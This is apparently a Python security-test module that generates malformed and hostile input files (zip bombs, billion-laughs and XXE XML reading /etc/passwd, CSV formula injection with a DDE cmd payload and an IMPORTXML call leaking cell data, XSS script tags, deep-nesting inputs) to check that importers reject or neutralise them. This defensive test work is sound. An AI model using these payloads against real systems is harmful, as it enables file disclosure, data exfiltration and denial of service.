"""Corpus of malformed and hostile input files for the importers and document readers.

``corpus()`` builds every case in memory (deterministically); ``python
tests/security/make_corpus.py`` writes the small ones (< 256 KiB) to tests/data/malformed/ so
that they can be inspected or fed to the CLI by hand. Large cases (zip bombs, 100 MB fields)
are generated only at test time.

Every case says what it targets ("list": ``read_table``/``import_list``; "document":
``read_document``) and what is acceptable: "error" (a clear IngestError), "ok" (a correct
result) or "either". All names are synthetic.
"""

from __future__ import annotations

import io
import json
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from tests.pdfgen import minimal_pdf

OUT = Path(__file__).resolve().parents[1] / "data" / "malformed"
SMALL = 256 * 1024


@dataclass(frozen=True)
class Case:
    name: str  # file name (its suffix picks the reader)
    target: str  # "list" or "document"
    expect: str  # "error", "ok" or "either"
    make: Callable[[], bytes]
    note: str = ""
    # A result must not contain this text (e.g. script content in HTML).
    forbid: str | None = None
    time_limit: float = 20.0


def _xlsx(rows: list[list[object]]) -> bytes:
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    for r in rows:
        ws.append(r)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _valid_xlsx() -> bytes:
    return _xlsx(
        [
            ["Full name", "City", "Age"],
            ["Kian Rostami", "Karaj", 23],
            ["Shirin Nouri", "Tabriz", 31],
            ["کیان رستمی", "کرج", "۲۳"],
        ]
    )


def _rezip(
    data: bytes, replace: dict[str, bytes], *, extra: dict[str, bytes] | None = None, level: int = 9
) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(data))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as out:
        for info in src.infolist():
            out.writestr(info.filename, replace.get(info.filename, src.read(info.filename)))
        for k, v in (extra or {}).items():
            out.writestr(k, v)
    return buf.getvalue()


def _zip_bomb_xlsx(expanded: int = 600 * 1024**2) -> bytes:
    """A valid workbook whose first sheet expands to ``expanded`` bytes of whitespace."""
    base = _valid_xlsx()
    src = zipfile.ZipFile(io.BytesIO(base))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as out:
        for info in src.infolist():
            if info.filename == "xl/worksheets/sheet1.xml":
                zi = zipfile.ZipInfo(info.filename)
                zi.compress_type = zipfile.ZIP_DEFLATED
                with out.open(zi, "w", force_zip64=True) as fh:
                    sheet = src.read(info.filename)
                    head, tail = sheet.split(b"<sheetData>", 1)
                    fh.write(head + b"<sheetData>")
                    chunk = b" " * (1 << 20)
                    for _ in range(expanded // len(chunk)):
                        fh.write(chunk)
                    fh.write(tail)
            else:
                out.writestr(info, src.read(info.filename))
    return buf.getvalue()


def _xlsx_dimension_bomb() -> bytes:
    """Two cells: A1 and XFD1048576 (the last cell of a sheet)."""
    base = _valid_xlsx()
    sheet = (
        b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats'
        b'.org/spreadsheetml/2006/main"><dimension ref="A1:XFD1048576"/><sheetData>'
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>name</t></is></c></row>'
        b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
        b"</sheetData></worksheet>"
    )
    return _rezip(base, {"xl/worksheets/sheet1.xml": sheet})


def _xlsx_billion_laughs() -> bytes:
    lol = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        + b"".join(
            f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode()
            for i in range(1, 10)
        )
        + b']><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
        b'uniqueCount="1"><si><t>&lol9;</t></si></sst>'
    )
    return _rezip(_xlsx([["name"], ["x"]]), {"xl/sharedStrings.xml": lol})


def _xlsx_xxe() -> bytes:
    xxe = (
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
        b'uniqueCount="1"><si><t>&e;</t></si></sst>'
    )
    return _rezip(_xlsx([["name"], ["x"]]), {"xl/sharedStrings.xml": xxe})


def _docx(paragraphs: list[str], document_xml: bytes | None = None) -> bytes:
    try:
        import docx
    except ImportError:  # pragma: no cover
        return b"PK\x03\x04"
    d = docx.Document()
    for p in paragraphs:
        d.add_paragraph(p)
    buf = io.BytesIO()
    d.save(buf)
    data = buf.getvalue()
    if document_xml is not None:
        data = _rezip(data, {"word/document.xml": document_xml})
    return data


def _docx_bomb() -> bytes:
    body = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    data = _docx(["x"])
    src = zipfile.ZipFile(io.BytesIO(data))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as out:
        for info in src.infolist():
            if info.filename == "word/document.xml":
                zi = zipfile.ZipInfo(info.filename)
                zi.compress_type = zipfile.ZIP_DEFLATED
                with out.open(zi, "w", force_zip64=True) as fh:
                    fh.write(body + b"<w:body><w:p><w:r><w:t>")
                    chunk = b"A" * (1 << 20)
                    for _ in range(400):
                        fh.write(chunk)
                    fh.write(b"</w:t></w:r></w:p></w:body></w:document>")
            else:
                out.writestr(info, src.read(info.filename))
    return buf.getvalue()


def _pdf(text: str = "Kian Rostami was killed in Karaj on 16 November 2019.") -> bytes:
    """A minimal one-page PDF with a text layer (hand-written objects, correct xref)."""
    return minimal_pdf(f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode("latin-1"))


def _pdf_broken_xref() -> bytes:
    good = _pdf()
    i = good.index(b"xref\n")
    return good[:i] + b"xref\n0 6\nGARBAGE GARBAGE\n" + good[good.index(b"trailer") :]


def _pdf_xref_loop() -> bytes:
    good = _pdf()
    # startxref points at itself: a reader that follows it naively loops forever.
    i = good.rindex(b"startxref\n")
    return good[:i] + b"startxref\n" + str(i).encode() + b"\n%%EOF\n"


def _pdf_deep_nesting() -> bytes:
    deep = b"[" * 100000 + b"]" * 100000
    return _pdf().replace(b"<< /Type /Catalog", b"<< /Deep " + deep + b" /Type /Catalog")


def _csv_names(encoding: str) -> bytes:
    return ("Full name,City\nکیان رستمی,کرج\nشیرین نوری,تبریز\n").encode(encoding)


def _mixed_encodings() -> bytes:
    return "Full name,City\nکیان رستمی,کرج\n".encode() + "شيرين نوري,تبريز\n".encode("cp1256")


def corpus(*, big: bool = True) -> list[Case]:
    """Every case; ``big=False`` leaves out the ones over ~10 MB (zip bombs, 100 MB fields)."""
    formula = (
        "Full name,Notes,City\n"
        '"=HYPERLINK(""http://example.org/x"",""click"")",=1+1,Karaj\n'
        "+cmd|' /C calc'!A0,@SUM(1),-2+3\n"
        'Kian Rostami,"=IMPORTXML(CONCAT(""http://e.example/?"",A1),""//a"")",Tabriz\n'
    )
    cases = [
        # ---- lists: CSV
        Case("empty.csv", "list", "error", lambda: b""),
        Case("bom_only.csv", "list", "error", lambda: b"\xef\xbb\xbf"),
        Case("header_only.csv", "list", "error", lambda: b"Full name,City\n"),
        Case("nul_bytes.csv", "list", "error", lambda: b"Full name\n\x00\x00\x00\x00\n"),
        Case(
            "unclosed_quote.csv",
            "list",
            "error",
            lambda: b'Full name,City\n"Kian Rostami,Karaj\nShirin Nouri,Tabriz\n',
        ),
        Case(
            "ragged_rows.csv",
            "list",
            "error",
            lambda: b"Full name,City\nKian Rostami,Karaj,extra,more\n",
        ),
        Case("cr_only.csv", "list", "ok", lambda: b"Full name,City\rKian Rostami,Karaj\r"),
        Case(
            "invalid_utf8.csv",
            "list",
            "either",
            lambda: b"Full name,City\nKian \xff\xfe\xfd Rostami,Karaj\n",
        ),
        Case("utf16_le_bom.csv", "list", "ok", lambda: b"\xff\xfe" + _csv_names("utf-16-le")),
        Case("utf16_no_bom.csv", "list", "either", lambda: _csv_names("utf-16-le")),
        Case("utf16_odd_length.csv", "list", "error", lambda: b"\xff\xfeF\x00u\x00l"),
        Case(
            "cp1256.csv",
            "list",
            "ok",
            lambda: "Full name,City\nشيرين نوري,تبريز\n".encode("cp1256"),
        ),
        Case(
            "mixed_encodings.csv",
            "list",
            "error",
            _mixed_encodings,
            note="UTF-8 rows must not be silently decoded as Windows-1256",
        ),
        Case(
            "formula_injection.csv",
            "list",
            "ok",
            lambda: formula.encode(),
            note="formulas are stored as text, never evaluated",
        ),
        Case("no_name_column.csv", "list", "error", lambda: b"City,Age\nKaraj,23\n"),
        Case(
            "duplicate_headers.csv",
            "list",
            "error",
            lambda: b"Full name,Full name\nKian Rostami,Shirin Nouri\n",
        ),
        Case(
            "wide_20000_columns.csv",
            "list",
            "either",
            lambda: (
                ",".join(f"c{i}" for i in range(20000))
                + ",Full name\n"
                + ",".join("x" for _ in range(20001))
                + "\n"
            ).encode(),
            time_limit=45,
        ),
        Case(
            "long_field_1mb.csv",
            "list",
            "either",
            lambda: b"Full name,City\n" + b"Kian " * 200_000 + b",Karaj\n",
            time_limit=20,
        ),
        Case("many_rows_blank.csv", "list", "error", lambda: b"Full name\n" + b"\n" * 200_000),
        Case(
            "control_chars.csv",
            "list",
            "either",
            lambda: "Full name,City\nKian\u202eRostami\u0007,Kar\u200baj\n".encode(),
        ),
        Case(
            "sql_like_values.csv",
            "list",
            "ok",
            lambda: b"Full name,City\nRobert'); DROP TABLE records;--,Karaj\n",
        ),
        # ---- lists: JSON
        Case("deep_array.json", "list", "error", lambda: b"[" * 200_000 + b"]" * 200_000),
        Case(
            "deep_value.json",
            "list",
            "error",
            lambda: b'[{"name": ' + b"[" * 100_000 + b"]" * 100_000 + b"}]",
        ),
        Case(
            "deep_object.jsonl",
            "list",
            "error",
            lambda: b'{"a":' * 50_000 + b"1" + b"}" * 50_000 + b"\n",
        ),
        Case("truncated.json", "list", "error", lambda: b'[{"name": "Kian Rostami", "city": "Ka'),
        Case("top_level_number.json", "list", "error", lambda: b"42"),
        Case(
            "huge_number.json",
            "list",
            "either",
            lambda: b'[{"name": "Kian Rostami", "age": 1e999999}]',
        ),
        Case("nan_name.json", "list", "either", lambda: b'[{"name": NaN}]'),
        Case("nested_value.json", "list", "error", lambda: b'[{"name": {"first": "Kian"}}]'),
        Case("numeric_keys.json", "list", "error", lambda: b'[{"1": "a"}, {"2": "b"}]'),
        # ---- lists: XLSX
        Case("valid.xlsx", "list", "ok", _valid_xlsx),
        Case(
            "truncated_half.xlsx", "list", "error", lambda: _valid_xlsx()[: len(_valid_xlsx()) // 2]
        ),
        Case("truncated_tail.xlsx", "list", "error", lambda: _valid_xlsx()[:-30]),
        Case("truncated_10_bytes.xlsx", "list", "error", lambda: _valid_xlsx()[:10]),
        Case("not_a_zip.xlsx", "list", "error", lambda: b"Full name,City\nKian,Karaj\n"),
        Case("zip_without_workbook.xlsx", "list", "error", lambda: _rezip(_docx(["x"]), {})),
        Case(
            "corrupt_sheet_xml.xlsx",
            "list",
            "error",
            lambda: _rezip(
                _valid_xlsx(), {"xl/worksheets/sheet1.xml": b"<worksheet><sheetData><row"}
            ),
        ),
        Case(
            "corrupt_shared_strings.xlsx",
            "list",
            "either",
            lambda: _rezip(_xlsx([["name"], ["x"]]), {"xl/sharedStrings.xml": b"<sst><si><t>"}),
        ),
        Case("billion_laughs.xlsx", "list", "either", _xlsx_billion_laughs, forbid="lollollol"),
        Case("xxe.xlsx", "list", "either", _xlsx_xxe, forbid="root:"),
        Case("dimension_bomb.xlsx", "list", "either", _xlsx_dimension_bomb, time_limit=20),
        Case(
            "formula_cells.xlsx",
            "list",
            "either",
            lambda: _xlsx(
                [
                    ["Full name", "Notes"],
                    ["Kian Rostami", "=1+1"],
                    ['=HYPERLINK("http://example.org")', "x"],
                ]
            ),
        ),
        # ---- documents
        Case(
            "script.html",
            "document",
            "ok",
            lambda: (
                "<html><head><script>alert('xss-token-1')</script><style>p{}</style>"
                "</head><body><p>کیان رستمی was killed in Karaj.</p>"
                "<img src=x onerror=\"alert('xss-token-2')\"><noscript>n</noscript>"
                "<iframe srcdoc=\"<script>alert('xss-token-3')</script>\"></iframe>"
                "<svg><script>alert('xss-token-4')</script></svg></body></html>"
            ).encode(),
            forbid="xss-token",
        ),
        Case(
            "deep_tags.html",
            "document",
            "either",
            lambda: (
                b"<html><body>"
                + b"<div>" * 100_000
                + b"Kian"
                + b"</div>" * 100_000
                + b"</body></html>"
            ),
        ),
        Case(
            "unclosed.html",
            "document",
            "either",
            lambda: b"<html><body><p>Kian Rostami <b><i><table><tr><td>Karaj",
        ),
        Case("binary.html", "document", "either", lambda: bytes(range(256)) * 64),
        Case(
            "invalid_utf8.html",
            "document",
            "either",
            lambda: b"<html><body><p>Kian \xff\xfe Rostami</p></body></html>",
        ),
        Case(
            "meta_charset_lie.html",
            "document",
            "either",
            lambda: b'<html><head><meta charset="utf-16"></head><body><p>Kian</p></body></html>',
        ),
        Case("valid.pdf", "document", "ok", _pdf),
        Case("broken_xref.pdf", "document", "either", _pdf_broken_xref),
        Case("xref_loop.pdf", "document", "either", _pdf_xref_loop),
        Case("truncated.pdf", "document", "error", lambda: _pdf()[:120]),
        Case("header_only.pdf", "document", "error", lambda: b"%PDF-1.7\n"),
        Case("deep_nesting.pdf", "document", "either", _pdf_deep_nesting),
        Case("not_really.pdf", "document", "error", lambda: b"<html>not a pdf</html>"),
        Case("valid.docx", "document", "ok", lambda: _docx(["Kian Rostami was killed in Karaj."])),
        Case(
            "xxe.docx",
            "document",
            "error",
            lambda: _docx(
                ["x"],
                b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY e SYSTEM '
                b'"file:///etc/passwd">]><w:document xmlns:w="http://schemas.'
                b'openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>'
                b"<w:r><w:t>&e;</w:t></w:r></w:p></w:body></w:document>",
            ),
            forbid="root:",
        ),
        Case("truncated.docx", "document", "error", lambda: _docx(["Kian"])[:200]),
        Case("zip_not_docx.docx", "document", "error", lambda: _rezip(_valid_xlsx(), {})),
        Case("empty.txt", "document", "error", lambda: b""),
        Case("long_line.txt", "document", "either", lambda: b"Kian " * 2_000_000),
        Case(
            "json_as_text.txt", "document", "either", lambda: json.dumps({"a": [1] * 1000}).encode()
        ),
    ]
    if big:
        cases += [
            Case(
                "field_100mb.csv",
                "list",
                "either",
                lambda: b"Full name,City\nKian Rostami," + b"A" * (100 * 1024**2) + b"\n",
                note="a 100 MB value",
                time_limit=60,
            ),
            Case(
                "name_100mb.csv",
                "list",
                "either",
                lambda: b"Full name\n" + b"Kian " * (20 * 1024**2) + b"\n",
                note="a 100 MB name",
                time_limit=60,
            ),
            Case("zip_bomb.xlsx", "list", "error", _zip_bomb_xlsx, time_limit=60),
            Case("zip_bomb.docx", "document", "error", _docx_bomb, time_limit=60),
            Case(
                "field_100mb.html",
                "document",
                "either",
                lambda: b"<html><body><p>" + b"A" * (100 * 1024**2) + b"</p></body></html>",
                time_limit=60,
            ),
        ]
    return cases


def main() -> int:
    OUT.mkdir(parents=True, exist_ok=True)
    n = 0
    for c in corpus(big=False):
        data = c.make()
        if len(data) <= SMALL:
            (OUT / c.name).write_bytes(data)
            n += 1
    sys.stdout.write(f"wrote {n} files to {OUT}\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
